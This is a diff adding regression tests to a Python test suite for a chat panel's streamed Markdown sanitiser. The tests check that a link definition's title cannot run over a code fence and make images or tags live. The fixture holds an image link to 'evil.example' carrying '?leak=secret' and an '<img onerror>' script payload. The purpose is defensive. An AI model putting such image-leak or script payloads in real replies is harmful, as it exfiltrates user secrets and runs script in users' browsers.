@@ -248,6 +248,24 @@ def test_a_fence_the_renderer_would_not_follow_as_this_stream_does_cannot_open_a
     assert _streamed(in_a_list, []).startswith("1. step\n```\n")  # the fence at the start
 
 
+def test_no_link_definition_forms_so_no_title_can_run_over_a_fence() -> None:
+    """Found by a review: marked, the chat panel's renderer, lets a link definition's title
+    run over a fence line; that line then opens no fence, so what the stream passed as code
+    (an image, a tag) was live there."""
+    from markdown_it import MarkdownIt
+
+    hole = "![p](http://evil.example/pixel.png?leak=secret)<img src=x onerror=alert(1)>"
+    reply = f'[a]: http://x.example "t\n```\n"\n{hole}\n'
+    for cuts in ([], [3, 4, 5], [4]):
+        shown = _streamed(reply, cuts)
+        assert shown.startswith("[a\\]: http://x.example")
+        env: dict = {}
+        MarkdownIt("commonmark").parse(shown + "\n\nsee [a]", env)
+        assert not env.get("references")
+    links = MarkdownIt("commonmark").parse(_streamed("[docs](http://x.example) and [1]", []))
+    assert [c.type for c in links[1].children][:1] == ["link_open"]  # a link stays a link
+
+
 # Pieces of Markdown whose block structure a stream must follow: fences, indents, list
 # items and quotes (single characters alone rarely build a fence in a list).
 _PIECES = [*"![]()<>/`~ \n\\ab:?", "```", "~~~", "\n   ", "\n    ", "- ", "1. ", "> ", "\t"]
@@ -267,6 +285,9 @@ def test_no_cut_of_a_streamed_reply_makes_anything_live_or_changes_it(
     shown = _streamed(text, cuts)
     assert shown == _streamed(text, [])
     assert _live_html(shown) == []
+    env: dict = {}
+    MarkdownIt("commonmark").parse(shown, env)
+    assert not env.get("references")  # no link definition, whose title marked lets run on
     # nothing in the reply swallows the footer written after it
     tokens = MarkdownIt("commonmark").parse(shown + "\n\n---\n*footer*")
     assert any(c.type == "em_open" for t in tokens for c in t.children or [])
